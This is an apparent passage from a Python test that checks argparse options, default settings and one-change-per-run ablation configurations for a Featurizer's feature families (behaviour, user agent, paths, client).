    parser = argparse.ArgumentParser()
    add_family_options(parser)
    for family in FAMILIES:
        assert "--" + family.setting in parser.format_help()
    defaults = {"behaviour": False, "agent": "class", "paths": False, "client": "default"}
    assert family_settings(parser.parse_args([])) == default_settings() == defaults
    assert family_settings(parser.parse_args(["--no-user-agent", "--paths"]))["agent"] == "off"
    config = Featurizer(**family_settings(parser.parse_args(["--agent", "tokens", "--behaviour", "--client", "paper"]))
                        ).get_config()  # fmt: skip
    assert {f.setting: config[f.setting] for f in FAMILIES} == {"behaviour": True, "agent": "tokens", "paths": False,
                                                                "client": "paper"}  # fmt: skip
    runs = ablation(default_settings())
    assert [title for title, _ in runs] == [title for f in FAMILIES for title, _ in f.ablation] and len(runs) == 7
    assert all(sum(run[k] != default_settings()[k] for k in run) == 1 for _, run in runs)  # one family changed each
